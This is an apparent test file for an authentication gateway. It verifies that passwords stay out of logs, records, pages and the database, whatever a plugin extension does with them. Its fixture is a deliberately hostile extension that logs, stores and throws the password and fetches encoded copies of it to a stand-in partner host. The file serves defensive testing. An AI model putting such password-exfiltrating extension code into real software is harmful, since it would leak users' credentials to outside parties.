import { readdirSync, readFileSync } from 'node:fs';
import path from 'node:path';

import test from 'ava';

import {
  PASSWORD,
  startPasswordWorld,
  type,
  writeAuthenticator,
} from '../_support/password-world.ts';
import type { World } from '../_support/world.ts';

/** Puts the password wherever an extension can put anything. */
const TELLS = `
  import { accept, type Extension } from 'entrada/extension';
  export default {
    async authenticate({ username, password }, ctx) {
      const ways = [password, encodeURIComponent(password), btoa(password), JSON.stringify({ password })];
      const origin = 'https://api.partner.example/';
      for (const way of ways) {
        console.log('typed', way);
        ctx.log.error({ way });
        await ctx.kv.set('last', way);
      }
      const urls = ways.map(encodeURIComponent).flatMap((way) => [origin + way, origin + '?p=' + way]);
      await Promise.allSettled(urls.map((url) => fetch(url)));
      await ctx.share('seen', password);
      if (username === 'thrown') throw new Error('wrong: ' + password);
      if (username === 'quoted') throw new Error('wrong: ' + JSON.stringify({ password }));
      if (username === 'named') throw Object.assign(new Error('x'), { name: password });
      if (username === 'reason') return { verdict: 'reject', code: 'wrong', reason: 'not ' + password };
      if (username === 'code') return { verdict: 'reject', code: password };
      return accept({ id: '1', claims: { note: password } });
    },
  } satisfies Extension;
`;

/** Every form of a text that a reader of a log would recognise. */
const formsOf = (text: string): readonly string[] => [
  text,
  encodeURIComponent(text),
  new URLSearchParams({ p: text }).toString().slice(2),
  Buffer.from(text).toString('base64').replace(/=+$/, ''),
  Buffer.from(text).toString('base64url'),
  quoted(text),
  quoted(quoted(text)),
];

/** As it stands in JSON. */
function quoted(text: string): string {
  return JSON.stringify(text).slice(1, -1);
}

/** Everything that the gateway wrote, anywhere: log, records, and the files of the store. */
function written(world: World): string {
  const store = path.join(world.folder, 'var');
  const files = readdirSync(store).filter((name) => name.startsWith('entrada.db'));
  return [
    ...world.lines,
    JSON.stringify(world.records),
    ...files.map((name) => readFileSync(path.join(store, name)).toString('latin1')),
  ].join('\n');
}

/** A name that nobody answers may take its time to be looked up. */
const AMPLE = { wall: '30s', cpu: '5s' };

const manifest = {
  provides: ['seen'],
  requests: { fetch: [{ origin: 'https://api.partner.example', allow: ['GET /**'] }] },
};
const grant = { fetch: [{ origin: 'https://api.partner.example', allow: ['GET /**'] }] };

for (const [what, password] of [
  ['a password', PASSWORD],
  ['a password with quotation marks', 'c"orrect "horse"/battery'],
  ['a password that is too short to be looked for', 'pw-7!x'],
] as const) {
  test.serial(
    `${what} is in no log, no record, no page and not in the store, whatever the extension does with it`,
    async (t) => {
      const source = writeAuthenticator(t, 'partner-login', TELLS, manifest);
      const world = await startPasswordWorld(t, TELLS, {
        file: { extensions: [{ source, grant, limits: AMPLE }] },
      });
      const pages: string[] = [];
      for (const username of ['thrown', 'quoted', 'named', 'reason', 'code', 'claims']) {
        // oxlint-disable-next-line no-await-in-loop -- one after the other, so that each has its record
        pages.push((await type(world, { username, password })).html);
      }
      t.is(world.records.length, 6);
      t.is(await world.gateway.sessions.count(), 0);
      const told = [...pages, written(world)].join('\n');
      t.true(told.includes('partner-login'), 'something was written');
      const forms = password.length >= 8 ? formsOf(password) : [password];
      for (const form of forms) t.false(told.includes(form), form);
    },
  );
}

test.serial('a verdict with the password in it accepts nobody', async (t) => {
  const code = `export default {
    authenticate: ({ password }) => ({ verdict: 'accept', id: '1', claims: { note: password } }),
  };`;
  const world = await startPasswordWorld(t, code);
  await type(world, { username: 'ada', password: PASSWORD });
  t.like(world.records[0]?.extensions[0]?.failure, {
    kind: 'invalid_result',
    code: 'PASSWORD_RETURNED',
  });
});
